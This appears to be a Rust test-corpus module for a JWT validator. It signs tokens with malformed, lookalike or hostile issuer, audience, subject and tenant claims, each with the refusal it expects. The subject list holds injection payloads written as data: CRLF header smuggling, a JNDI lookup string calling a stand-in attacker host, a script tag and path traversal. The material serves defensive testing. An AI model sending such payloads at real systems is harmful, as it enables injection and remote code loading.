//! Authentic tokens with wrong, mistyped or hostile claims.

use serde_json::{Value, json};

use super::super::mint;
use super::world::entra;
use super::*;

pub(super) fn collect(world: &World, corpus: &mut Corpus) {
    issuers(world, corpus);
    audiences(world, corpus);
    subjects(world, corpus);
    identities(world, corpus);
}

/// Values that are no string, though a loose language may convert them.
fn no_strings() -> [Value; 6] {
    [json!(1), json!(0), json!(true), json!({"0": "x"}), json!({}), json!(1.5)]
}

/// One string, compared byte for byte (CVE-2025-30144, CVE-2024-53861).
fn issuers(world: &World, corpus: &mut Corpus) {
    let mut refuse = |name: &str, iss: Value, reasons: &'static [&'static str]| {
        let family = if iss.is_string() { "cl-iss-partial" } else { "cl-iss-type" };
        let name = if name.is_empty() { iss.to_string() } else { name.to_owned() };
        corpus.refuse(family, name, world.rsa.sign(&claims_with("iss", iss)), reasons);
    };
    for iss in [
        "",
        " ",
        "https://issuer.tes",
        "https://issuer.test/",
        "https://issuer.test ",
        " https://issuer.test",
        "https://issuer.test\0",
        "https://issuer.test\n",
        "issuer.test",
        "https://issuer.test.attacker.test",
        "https://issuer.test@attacker.test",
        "https://attacker.test/https://issuer.test",
        "https://attacker.test#https://issuer.test",
        "https://issuer.test:443",
        "http://issuer.test",
        "HTTPS://ISSUER.TEST",
        "https://Issuer.test",
        "https://%69ssuer.test",
        "https://issuer。test",
        "https://іssuer.test",
        "//issuer.test",
        "https:/issuer.test",
        "h",
        "https://",
        "*",
        "null",
        "https://issuer.test,https://partner.test",
        "{tenantid}",
        "https://attacker.test",
    ] {
        refuse("", json!(iss), &["issuer_not_allowed"]);
    }
    for iss in no_strings() {
        refuse("", iss, CLAIM);
    }
    for (name, iss) in [
        ("array of the good one", json!([mint::ISSUER])),
        ("array, good first", json!([mint::ISSUER, "https://attacker.test"])),
        ("array, good last", json!(["https://attacker.test", mint::ISSUER])),
        ("array of none", json!([])),
        ("object", json!({"iss": mint::ISSUER})),
    ] {
        refuse(name, iss, CLAIM);
    }
    refuse("null", Value::Null, &["claim_malformed", "claim_missing", "issuer_not_allowed"]);
    let token = world.rsa.sign(&claims_without("iss"));
    let reasons = &["claim_missing", "issuer_not_allowed"];
    corpus.refuse("cl-iss-type", "absent", token, reasons);
    let empty = world.rsa.sign(&json!({}));
    corpus.refuse("cl-iss-type", "no claims at all", empty, reasons);
}

/// The audience must be among the token's, byte for byte (CVE-2020-26160).
fn audiences(world: &World, corpus: &mut Corpus) {
    let mut refuse = |aud: Value, reasons: &'static [&'static str]| {
        let name = aud.to_string();
        corpus.refuse("cl-aud", name, world.rsa.sign(&claims_with("aud", aud)), reasons);
    };
    let mismatch: &[&str] = &["audience_mismatch"];
    for aud in [
        "",
        " ",
        "api://scorin",
        "api://scoring/",
        "api://scoring ",
        " api://scoring",
        "scoring",
        "API://SCORING",
        "api://Scoring",
        "api://scoring\0",
        "api://scoring\u{200b}",
        "api://scoring,other",
        "other api://scoring",
        "api://scoring2",
        "xapi://scoring",
        "*",
        "any",
        "null",
        "api://scorіng",
        "api:%2F%2Fscoring",
    ] {
        refuse(json!(aud), mismatch);
        refuse(json!([aud]), mismatch);
    }
    refuse(json!([]), mismatch);
    refuse(json!(["other", "another"]), mismatch);
    for aud in no_strings() {
        refuse(aud.clone(), CLAIM);
        refuse(json!([aud]), &["claim_malformed", "audience_mismatch"]);
    }
    for aud in [
        json!([["api://scoring"]]),
        json!([{"aud": "api://scoring"}]),
        json!([null]),
        json!([1, "other"]),
        json!([null, "other"]),
    ] {
        refuse(aud, &["claim_malformed", "audience_mismatch"]);
    }
    // A list with a member that is no string is malformed, though the good one is in it.
    for aud in [
        json!(["api://scoring", 1]),
        json!([1, "api://scoring"]),
        json!([null, "api://scoring"]),
        json!(["api://scoring", ["other"]]),
        json!([{}, "api://scoring"]),
    ] {
        refuse(aud, CLAIM);
    }
    refuse(json!({"api://scoring": true}), CLAIM);
    refuse(Value::Null, &["claim_malformed", "claim_missing", "audience_mismatch"]);
    let absent = world.rsa.sign(&claims_without("aud"));
    corpus.refuse("cl-aud", "absent", absent, &["claim_missing", "audience_mismatch"]);
}

/// Hostile user names that an issuer allowed (CVE-2023-27493, CVE-2024-45808).
fn subjects(world: &World, corpus: &mut Corpus) {
    let long = "x".repeat(10 * 1024);
    let wide = "é".repeat(2000);
    for (name, sub) in [
        ("crlf header", "a\r\nx-auth-roles: admin"),
        ("crlf response", "a\r\n\r\nHTTP/1.1 200 OK\r\n\r\n"),
        ("cr", "a\rb"),
        ("lf", "a\nb"),
        ("nul", "a\0b"),
        ("escape", "\u{1b}[31mroot\u{1b}[0m"),
        ("bell", "a\u{7}b"),
        ("delete", "a\u{7f}b"),
        ("tab", "a\tb"),
        ("vertical tab", "a\u{b}b"),
        ("next line", "a\u{85}b"),
        ("c1 control", "a\u{9b}31mb"),
        ("line separator", "a\u{2028}b"),
        ("paragraph separator", "a\u{2029}b"),
        ("bidi override", "\u{202e}nimda"),
        ("bidi isolate", "a\u{2066}b\u{2069}"),
        ("zero width", "ad\u{200b}min"),
        ("byte order mark", "\u{feff}admin"),
        ("decomposed", "e\u{301}lise"),
        ("composed", "\u{e9}lise"),
        ("fullwidth", "ａｄｍｉｎ"),
        ("overlong fullwidth lf", "a\u{560a}b"),
        ("emoji", "👩‍💻"),
        ("beyond the plane", "\u{10ffff}"),
        ("10 KiB", &long),
        ("4 KB of two-byte letters", &wide),
        ("spaces", "   "),
        ("spaces around", " admin "),
        ("comma", "a,b"),
        ("quotes", "a\",\"role\":\"admin"),
        ("backslash", "a\\u000ab"),
        ("percent", "a%0d%0aX: b"),
        ("template", "{@identity}{sub}"),
        ("format", "%REQ(AUTHORIZATION)%"),
        ("expansion", "${jndi:ldap://attacker.test/a}"),
        ("markup", "<script>alert(1)</script>"),
        ("slashes", "../../admin"),
        ("several at", "a@evil.test@corp.test"),
    ] {
        let token = world.p256.sign(&claims_with("sub", json!(sub)));
        corpus.add("sub-hostile", name, token, Expect::PassesSanitised);
    }
}

/// `{iss}/{sub}` needs both of its parts, and an empty one is none.
fn identities(world: &World, corpus: &mut Corpus) {
    let family = IDENTITY;
    corpus.refuse(family, "sub absent", world.p256.sign(&claims_without("sub")), MISSING);
    corpus.refuse(family, "sub empty", world.p256.sign(&claims_with("sub", json!(""))), MISSING);
    for sub in [Value::Null, json!({}), json!({"sub": "admin"}), json!([[]]), json!([{}])] {
        let name = format!("sub {sub}");
        corpus.refuse(family, name, world.p256.sign(&claims_with("sub", sub)), NULL);
    }
    let token = world.p256.sign(&claims_with("sub", json!([])));
    corpus.refuse(family, "sub []", token, NULL);
}

/// Aimed at `entra`: a tenant that is not ours, or that two claims disagree about.
pub(super) fn collect_tenants(world: &World, corpus: &mut Corpus) {
    const FOREIGN: &str = "9188040d-6c67-4c5b-b112-36a304b66dad";
    let no_tenant: &[&str] = &["tenant_not_allowed"];
    let neither: &[&str] = &["tenant_not_allowed", "issuer_not_allowed"];
    let mut refuse = |name: &str, claims: Value, reasons: &'static [&'static str]| {
        corpus.refuse("tenant", name, world.entra.sign(&claims), reasons);
    };
    refuse("foreign", entra(FOREIGN, FOREIGN), no_tenant);
    refuse("foreign in iss", entra(FOREIGN, TENANT), no_tenant);
    refuse("foreign in tid", entra(TENANT, FOREIGN), no_tenant);
    for part in ["", "common", "organizations", "{tenantid}", "*", "..", &format!("{TENANT}/x")] {
        refuse(&format!("iss with {part:?}"), entra(part, TENANT), neither);
    }
    for tid in [json!([TENANT]), json!(1), json!({}), json!(true)] {
        let mut claims = entra(TENANT, TENANT);
        let name = format!("tid {tid}");
        claims["tid"] = tid;
        refuse(&name, claims, &["claim_malformed", "tenant_not_allowed"]);
    }
    let mut claims = entra(TENANT, TENANT);
    claims.as_object_mut().unwrap().remove("tid");
    refuse("no tid", claims, &["claim_missing", "tenant_not_allowed"]);
    let mut claims = entra(TENANT, TENANT);
    claims.as_object_mut().unwrap().remove("scp");
    corpus.refuse("token-use", "id token", world.entra.sign(&claims), &["token_use_mismatch"]);
    let bound = world.entra_bound.sign(&entra(TENANT, TENANT));
    corpus.add("tenant", "a key of another tenant's issuer", bound, Expect::RefusedAny);
}
